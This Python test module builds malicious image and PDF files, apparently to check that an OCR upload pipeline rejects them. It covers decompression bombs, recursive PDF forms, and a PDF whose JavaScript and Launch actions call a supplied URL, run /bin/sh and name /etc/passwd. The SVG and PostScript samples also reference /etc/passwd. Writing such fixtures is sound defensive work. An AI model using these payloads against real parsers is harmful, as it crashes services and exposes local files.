"""Files made to harm who opens them, written by hand; each builder gives the bytes of one file."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import cache

import cv2
import numpy as np
from PIL import Image

MB = 2**20


@cache
def zeros(size: int, level: int = 9) -> bytes:
    """That many zero bytes, deflated."""
    packer, block = zlib.compressobj(level), bytes(MB)
    return b"".join(packer.compress(block) for _ in range(size // MB)) + packer.flush()


def saved(kind: str, picture: Image.Image, **settings: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **settings)
    return out.getvalue()


def grey(width: int = 320, height: int = 200) -> Image.Image:
    return Image.fromarray(
        np.random.default_rng(1).integers(0, 256, (height, width), dtype=np.uint8).repeat(1, 0)
    )


# PNG


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(
    width: int,
    height: int,
    depth: int,
    colour: int,
    body: bytes,
    *,
    extra: Iterable[bytes] = (),
    interlaced: int = 0,
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlaced)
    parts = (chunk(b"IHDR", header), *extra, chunk(b"IDAT", body), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def png_small(*extra: bytes) -> bytes:
    return png(100, 100, 8, 0, zlib.compress(bytes(101 * 100)), extra=extra)


def png_text_bomb() -> bytes:
    return png_small(chunk(b"zTXt", b"Comment\0\0" + zeros(400 * MB)))


def png_profile_bomb() -> bytes:
    return png_small(chunk(b"iCCP", b"icc\0\0" + zeros(400 * MB)))


# JPEG


def jpeg(width: int = 320, height: int = 200, **settings: object) -> bytes:
    return saved("JPEG", grey(width, height), **{"quality": 80} | settings)


def segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def with_segments(segments: Iterable[bytes], data: bytes | None = None) -> bytes:
    data = data or jpeg()
    return data[:2] + b"".join(segments) + data[2:]


def jpeg_that_lies(width: int, height: int, data: bytes | None = None) -> bytes:
    """The frame header says another size than there is data for."""
    out = bytearray(data or jpeg())
    place = next(out.find(bytes((0xFF, m))) for m in (0xC0, 0xC2) if out.find(bytes((0xFF, m))) > 0)
    out[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(out)


def jpeg_of_many_scans(scans: int = 4000) -> bytes:
    """A progressive JPEG whose last scan is said again thousands of times."""
    smooth = Image.fromarray(np.zeros((3000, 4000), np.uint8))
    data = saved("JPEG", smooth, progressive=True, quality=50)
    start, end = data.rfind(b"\xff\xda"), data.rfind(b"\xff\xd9")
    return data[:end] + data[start:end] * scans + data[end:]


def exif(orientation: int, kind: int = 3, count: int = 1) -> bytes:
    entry = struct.pack("<HHIHH", 0x0112, kind, count, orientation & 0xFFFF, 0)
    return segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\x01\0" + entry + struct.pack("<I", 8))


# TIFF


def tiff(entries: dict[int, tuple[int, int, int]], data: bytes = b"", next_ifd: int = 0) -> bytes:
    """Little-endian, one directory at 8; `entries` are tag: (type, count, value); the data follows the directory."""
    out = b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries))
    for tag, (kind, count, value) in sorted(entries.items()):
        out += struct.pack("<HHII", tag, kind, count, value)
    return out + struct.pack("<I", next_ifd) + data


def plain_tiff(width: int, height: int, data: bytes, *, next_ifd: int = 0, **more: object) -> bytes:
    entries = {
        256: (4, 1, width),
        257: (4, 1, height),
        258: (3, 1, 8),
        259: (3, 1, 8 if more.get("deflated") else 1),
        262: (3, 1, 1),
        273: (4, 1, 8 + 2 + 12 * 9 + 4),
        277: (3, 1, 1),
        278: (4, 1, height),
        279: (4, 1, len(data)),
    }
    return tiff(entries, data, next_ifd)


def tiff_pages(pages: int) -> bytes:
    """That many pages of the same pixels."""
    size = 2 + 12 * 9 + 4
    data = 8 + pages * size
    values = {256: 100, 257: 100, 258: 8, 259: 1, 262: 1, 273: data, 277: 1, 278: 100, 279: 10_000}
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in values.items())
    out = b"II*\0\x08\0\0\0"
    for n in range(pages):
        following = 8 + (n + 1) * size if n < pages - 1 else 0
        out += struct.pack("<H", 9) + entries + struct.pack("<I", following)
    return out + bytes(10_000)


# WebP and others


def webp_bomb(width: int = 16_383, height: int = 16_383, frames: int = 0) -> bytes:
    """An extended WebP header of that canvas, and that many tiny frames."""
    tiny = saved("WEBP", Image.new("RGB", (64, 64)), lossless=True)[12:]
    body = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0"
    body += struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    body += b"ANIM" + struct.pack("<IIH", 6, 0, 0)
    frame = bytes(6) + struct.pack("<I", 63)[:3] * 2 + b"\x01\0\0\0" + tiny
    body += (b"ANMF" + struct.pack("<I", len(frame)) + frame + b"\0" * (len(frame) % 2)) * frames
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("acta.jpg", bytes(20 * MB))
    return out.getvalue()


# PDF


def pdf(
    objects: dict[int, bytes | str],
    *,
    content: bytes = b"",
    page: str = "",
    catalog: str = "",
    box: str = "0 0 300 400",
    filters: str = "",
    pages: str | None = None,
) -> bytes:
    """One page unless `pages` says otherwise; objects 1 to 4 are the catalogue, the tree, the page, its content."""
    filled: dict[int, bytes | str] = {
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        2: pages or "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R{page}>>",
        4: stream(content, filters),
        **objects,
    }
    out, places = b"%PDF-1.7\n", {}
    for number, text in sorted(filled.items()):
        places[number] = len(out)
        out += f"{number} 0 obj\n".encode() + (text.encode() if isinstance(text, str) else text)
        out += b"\nendobj\n"
    start, size = len(out), max(filled) + 1
    out += f"xref\n0 {size}\n".encode()
    for number in range(size):
        out += f"{places.get(number, 0):010d} 00000 {'n' if number in places else 'f'} \n".encode()
    return out + f"trailer<</Size {size}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()


def stream(data: bytes, extra: str = "") -> bytes:
    return f"<</Length {len(data)}{extra}>>stream\n".encode() + data + b"\nendstream"


def pdf_of_laughs(depth: int = 12, times: int = 12) -> bytes:
    """Forms that draw forms that draw forms: twelve to the twelfth rectangles."""
    objects: dict[int, bytes | str] = {}
    for level in range(depth):
        inner = b"0 0 9 9 re f " if level == depth - 1 else b"/F Do " * times
        more = "" if level == depth - 1 else f"/Resources<</XObject<</F {11 + level} 0 R>>>>"
        objects[10 + level] = stream(inner, f"/Type/XObject/Subtype/Form/BBox[0 0 300 400]{more}")
    return pdf(objects, content=b"/F Do", page="/Resources<</XObject<</F 10 0 R>>>>")


def pdf_that_draws_itself() -> bytes:
    itself = stream(
        b"/F Do /F Do",
        "/Type/XObject/Subtype/Form/BBox[0 0 300 400]/Resources<</XObject<</F 10 0 R>>>>",
    )
    return pdf({10: itself}, content=b"/F Do", page="/Resources<</XObject<</F 10 0 R>>>>")


def pdf_twice_deflated() -> bytes:
    return pdf({}, content=zlib.compress(zeros(2000 * MB, 6), 9), filters="/Filter[/FlateDecode/FlateDecode]")


def pdf_object_stream_bomb() -> bytes:
    """The catalogue lies in an object stream that inflates to 2 GB."""
    return pdf(
        {
            1: "<</Type/Nothing>>",
            9: stream(zeros(2000 * MB, 6), "/Type/ObjStm/N 1000000/First 9999999/Filter/FlateDecode"),
            10: stream(
                b"\x01\x00\x00\x00" * 3,
                "/Type/XRef/Size 20/W[1 2 1]/Root 1 0 R/Extends 9 0 R/Index[0 3]",
            ),
        }
    )


def pdf_huge_picture() -> bytes:
    body = stream(
        zeros(50_000 * 50_000 // 8),
        "/Type/XObject/Subtype/Image/Width 50000/Height 50000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode",
    )
    return pdf({10: body}, content=b"300 0 0 400 0 0 cm /I Do", page="/Resources<</XObject<</I 10 0 R>>>>")


def pdf_dense_pattern() -> bytes:
    tile = stream(
        b"0 0 1 1 re f",
        "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<<>>",
    )
    return pdf(
        {10: tile},
        content=b"/Pattern cs /P scn 0 0 300 400 re f " * 50,
        page="/Resources<</Pattern<</P 10 0 R>>>>",
    )


def pdf_that_reaches_out(url: str) -> bytes:
    """JavaScript, an embedded file, actions and streams that name files and addresses elsewhere."""
    script = f"(app.launchURL\\('{url}/js'\\); this.submitForm\\('{url}/form'\\);)"
    actions = {
        10: f"<</S/JavaScript/JS {script}/Next 11 0 R>>",
        11: f"<</S/URI/URI({url}/uri)/Next 12 0 R>>",
        12: f"<</S/GoToR/F<</FS/URL/F({url}/gotor)>>/D[0/Fit]/Next 13 0 R>>",
        13: "<</S/Launch/F(/bin/sh)/Next 14 0 R>>",
        14: f"<</S/SubmitForm/F<</FS/URL/F({url}/submit)>>>>",
        15: f"<</Type/Filespec/F({url}/file)/EF<</F 16 0 R>>>>",
        16: stream(b"MZ" + bytes(1000), "/Type/EmbeddedFile"),
        17: f"<</Length 0/F<</FS/URL/F({url}/stream)>>>>stream\n\nendstream",
        18: stream(b"", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(/etc/passwd)/Ref<</F(/etc/passwd)/Page 0>>"),
    }  # fmt: skip
    return pdf(
        {**actions, 4: "[17 0 R]"},
        page="/AA<</O 10 0 R>>/Resources<</XObject<</X 18 0 R>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 11 0 R>>]",
        catalog="/OpenAction 10 0 R/Names<</EmbeddedFiles<</Names[(a)15 0 R]>>/JavaScript<</Names[(b)10 0 R]>>>>",
    )


def pdf_tree(count: int, kids: str) -> bytes:
    return pdf({}, pages=f"<</Type/Pages/Count {count}/Kids[{kids}]>>")


Case = tuple[Callable[[], bytes], set[str]]
"""A builder and what may come of it: reasons of `ocr.image.WHY`, or "opened"."""

PICTURES: dict[str, Case] = {
    "png 50,000 x 50,000": (
        lambda: png(50_000, 50_000, 1, 0, zeros(50_000 * 6_251, 1)),
        {"too-many-pixels"},
    ),
    "png of 63 megapixels in 64 bits": (
        lambda: png(8_000, 7_900, 16, 6, zeros(7_900 * 64_001 + MB, 1)),
        {"memory", "timeout", "opened"},
    ),
    "png of 63 megapixels, interlaced": (
        lambda: png(8_000, 7_900, 8, 2, zeros(8_200 * 24_001 + MB, 1), interlaced=1),
        {"memory", "timeout", "opened", "truncated", "damaged"},
    ),
    "png without its pixels": (lambda: png(8_000, 7_900, 8, 2, zlib.compress(b"")), {"truncated", "damaged"}),
    "png with a text of 400 MB": (png_text_bomb, {"damaged", "memory"}),
    "png with a colour profile of 400 MB": (png_profile_bomb, {"damaged", "memory", "opened"}),
    "png with 300,000 chunks": (
        lambda: png_small(chunk(b"tEXt", b"a\0b") * 300_000),
        {"damaged", "timeout", "opened"},
    ),
    "png of a billion frames": (
        lambda: png_small(chunk(b"acTL", struct.pack(">II", 10**9, 0))),
        {"opened", "damaged"},
    ),
    "png with a chunk of 4 GB": (
        lambda: png_small(struct.pack(">I", 2**32 - 1) + b"tEXt"),
        {"damaged", "truncated", "memory"},
    ),
    "jpeg of 4,000 scans": (jpeg_of_many_scans, {"timeout"}),
    "jpeg that says 65,500 x 65,500": (lambda: jpeg_that_lies(65_500, 65_500), {"too-many-pixels"}),
    "jpeg that says 8,000 x 7,900": (lambda: jpeg_that_lies(8_000, 7_900), {"truncated", "damaged"}),
    "jpeg that says half its size": (lambda: jpeg_that_lies(160, 100), {"opened", "damaged", "truncated"}),
    "jpeg without height": (lambda: jpeg_that_lies(320, 0), {"damaged", "too-small"}),
    "jpeg of 62 megapixels, progressive": (
        lambda: cv2.imencode(
            ".jpg", np.full((7_800, 8_000, 3), 90, np.uint8), [cv2.IMWRITE_JPEG_PROGRESSIVE, 1]
        )[1].tobytes(),
        {"opened", "timeout", "memory"},
    ),
    "jpeg with 60 MB of metadata": (
        lambda: with_segments([segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + bytes(60_000))] * 1_000),
        {"opened", "timeout", "damaged"},
    ),
    "jpeg with 100 MB of metadata": (
        lambda: with_segments([segment(0xED, b"Photoshop 3.0\0" + bytes(60_000))] * 1_700),
        {"too-many-bytes"},
    ),
    "jpeg with a colour profile of 16 MB": (
        lambda: with_segments(
            [segment(0xE2, b"ICC_PROFILE\0" + bytes((n, 255)) + bytes(65_000)) for n in range(1, 256)]
        ),
        {"opened", "damaged"},
    ),
    "jpeg turned by 65,535": (lambda: with_segments([exif(65_535)]), {"opened"}),
    "jpeg turned by four billion shorts": (
        lambda: with_segments([exif(6, count=2**32 - 1)]),
        {"opened", "damaged"},
    ),
    "jpeg turned by a text": (lambda: with_segments([exif(6, kind=2)]), {"opened"}),
    "jpeg of nothing but markers": (lambda: b"\xff\xd8" + b"\xff\xd8\xff\xe0\0\2" * 10**6, {"damaged", "truncated", "timeout"}),
    "tiff 60,000 x 60,000": (lambda: plain_tiff(60_000, 60_000, b""), {"too-many-pixels"}),
    "tiff that inflates 2,000 times": (
        lambda: plain_tiff(8_000, 7_900, zeros(7_900 * 8_000 + MB), deflated=True),
        {"opened", "memory", "timeout", "damaged"},
    ),
    "tiff that says more than it inflates to": (
        lambda: plain_tiff(8_000, 7_900, zeros(MB), deflated=True),
        {"truncated", "damaged"},
    ),
    "tiff of 10,000 pages": (lambda: tiff_pages(10_000), {"too-many-pages", "timeout"}),
    "tiff whose pages turn in a circle": (
        lambda: plain_tiff(100, 100, bytes(10_000), next_ifd=8),
        {"opened", "damaged", "timeout"},
    ),
    "tiff whose strips are four billion": (
        lambda: tiff({256: (4, 1, 100), 257: (4, 1, 100), 258: (3, 1, 8), 262: (3, 1, 1), 273: (4, 2**32 - 1, 8), 279: (4, 2**32 - 1, 8)}),
        {"damaged", "memory", "truncated"},
    ),
    "webp canvas of 16,383 x 16,383": (lambda: webp_bomb(frames=2), {"too-many-pixels", "damaged"}),
    "webp of 100,000 frames": (lambda: webp_bomb(7_000, 7_000, 100_000), {"opened", "damaged", "memory", "timeout"}),
    "webp without frames": (lambda: webp_bomb(100, 100), {"damaged", "truncated"}),
    "gif": (lambda: saved("GIF", grey(), save_all=True, append_images=[grey()] * 5), {"not-a-picture"}),
    "bmp": (lambda: saved("BMP", grey()), {"not-a-picture"}),
    "zip named like a photo": (zipped, {"not-a-picture"}),
    "svg": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        {"not-a-picture"},
    ),
    "postscript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n", {"not-a-picture"}),
    "heic": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(5_000), {"heic"}),
    "avif": (lambda: b"\0\0\0\x18ftypavif\0\0\0\0mif1heic" + bytes(5_000), {"heic"}),
    "nothing": (lambda: b"", {"empty"}),
    "zeros": (lambda: bytes(100_000), {"not-a-picture"}),
    "65 MB": (lambda: jpeg() + bytes(65 * MB), {"too-many-bytes"}),
    "one pixel wide": (lambda: saved("PNG", grey(1, 5_000)), {"too-small"}),
    "one pixel": (lambda: saved("PNG", grey(1, 1)), {"too-small"}),
    "64 x 990,000": (lambda: png(64, 990_000, 8, 0, zeros(65 * 990_000 + MB)), {"too-many-pixels"}),
}  # fmt: skip
PDFS: dict[str, Case] = {
    "pdf of 10,000 pages": (lambda: pdf_tree(10_000, "3 0 R " * 10_000), {"too-many-pages"}),
    "pdf that says a billion pages": (
        lambda: pdf_tree(10**9, "3 0 R"),
        {"too-many-pages", "damaged", "opened"},
    ),
    "pdf that says one page and has 10,000": (lambda: pdf_tree(1, "3 0 R " * 10_000), {"opened"}),
    "pdf whose pages turn in a circle": (lambda: pdf_tree(3, "2 0 R 2 0 R 3 0 R"), {"damaged", "opened"}),
    "pdf page of a million points": (
        lambda: pdf({}, box="0 0 1000000 1000000"),
        {"damaged", "opened", "too-small"},
    ),
    "pdf page of endless size": (lambda: pdf({}, box=f"0 0 {'9' * 400} 1e400"), {"damaged", "opened"}),
    "pdf page turned inside out": (lambda: pdf({}, box="300 400 -300 -400"), {"damaged", "opened"}),
    "pdf page without extent": (lambda: pdf({}, box="0 0 0 0"), {"damaged", "opened", "too-small"}),
    "pdf of forms in forms": (pdf_of_laughs, {"timeout", "memory", "decoder-died", "too-much-drawn"}),
    "pdf form that draws itself": (pdf_that_draws_itself, {"opened", "damaged", "decoder-died", "timeout"}),
    "pdf deflated twice": (pdf_twice_deflated, {"timeout", "memory", "opened", "damaged", "decoder-died"}),
    "pdf with an object stream of 2 GB": (
        pdf_object_stream_bomb,
        {"timeout", "memory", "damaged", "decoder-died"},
    ),
    "pdf picture of 50,000 x 50,000": (
        pdf_huge_picture,
        {"opened", "timeout", "memory", "damaged", "decoder-died"},
    ),
    "pdf with a pattern of a billion tiles": (
        pdf_dense_pattern,
        {"opened", "timeout", "memory", "decoder-died"},
    ),
    "pdf with a million brackets": (
        lambda: pdf({}, content=b"[" * 10**6 + b"q " * 10**6),
        {"opened", "damaged", "decoder-died", "timeout", "too-much-drawn", "memory"},
    ),
    "pdf with a million nested dictionaries": (
        lambda: pdf({}, catalog="/A" + "<</A" * 10**6),
        {"opened", "damaged", "decoder-died", "timeout", "memory"},
    ),
    "pdf with a million lines": (
        lambda: pdf({}, content=b"0 0 m 300 400 l S " * 10**6),
        {"opened", "timeout", "too-much-drawn"},
    ),
    "pdf that ends in its header": (lambda: b"%PDF-1.7\n", {"damaged"}),
    "pdf cut in the middle": (
        lambda: (d := pdf({}, content=b"0 0 9 9 re f " * 5_000))[: len(d) // 2],
        {"damaged", "opened"},
    ),
}
